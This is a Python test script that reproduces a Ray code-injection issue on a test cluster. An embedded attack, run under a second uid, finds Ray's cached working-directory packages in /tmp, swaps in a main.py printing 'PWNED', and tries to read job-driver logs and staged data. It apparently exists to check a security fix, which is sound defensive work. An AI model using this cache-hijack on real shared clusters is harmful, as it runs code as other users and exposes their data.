"""Run on the head of a test cluster (as the job's command): the issue's code-injection attack, for real.

1. ``ray job submit --working-dir WD -- python main.py`` (main.py prints ORIGINAL); Ray caches the package in
   ``<temp-dir>/session_*/runtime_resources/working_dir_files/_ray_pkg_<hash>``.
2. Another uid (``setpriv``) searches the node's /tmp for that cache, renames it and writes its own main.py,
   and tries to read job-driver logs and the staged data.
3. The same submission again: before the fix it printed PWNED (the other user's code, run as the job's user).

Writes a JSON report to OUT. Usage: working_dir_attack.py WD OUT ATTACKER_UID STAGE_TO JOBID
"""
from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from sec_helpers import PY, run_as  # noqa: E402

ATTACK = r"""
import json, os, sys
stage_to, jobid = sys.argv[1], sys.argv[2]
found, done, errors = [], [], {}
def ours(path):  # this job's files only (other Ray sessions may share the machine): old and new dir names
    return f"nx{jobid}_" in path or f"/{jobid}." in path or path.startswith(stage_to)
for top in ("/tmp", stage_to):
    for root, dirs, files in os.walk(top, onerror=lambda e: errors.setdefault(type(e).__name__, []).append(e.filename)):
        for d in dirs:
            if d.startswith("_ray_pkg_") and ours(root):
                found.append(os.path.join(root, d))
        for f in files:
            p = os.path.join(root, f)
            if ours(p) and (f.startswith("job-driver-") or f.endswith(".h5")):
                try:
                    open(p, "rb").read(); done.append("read " + p)
                except OSError as e:
                    errors.setdefault(type(e).__name__, []).append(p)
for pkg in found:
    try:
        os.rename(pkg, pkg + ".orig"); os.mkdir(pkg)
        open(os.path.join(pkg, "main.py"), "w").write("print('PWNED')\n"); done.append("replaced " + pkg)
    except OSError as e:
        errors.setdefault(type(e).__name__, []).append(pkg)
print(json.dumps({"found": found, "done": done, "denied": sorted(errors.get("PermissionError", []))}))
"""


def submit(wd: str) -> str:
    r = subprocess.run([PY, "-m", "ray.scripts.scripts", "job", "submit", "--address",
                        os.environ["RAY_API_SERVER_ADDRESS"], "--working-dir", wd, "--", "python", "main.py"],
                       capture_output=True, text=True, timeout=300)
    return r.stdout + r.stderr


def main() -> int:
    wd, out, uid, stage_to, jobid = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[5]
    first = submit(wd)
    attack = run_as(uid, [PY, "-c", ATTACK, stage_to, jobid], timeout=120)
    second = submit(wd)
    Path(out).write_text(json.dumps({"first": first, "second": second, "attack_rc": attack.returncode,
                                     "attack": json.loads(attack.stdout) if attack.returncode == 0 else attack.stderr,
                                     "staged": os.environ.get("NEUROX_STAGED_DATA")}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
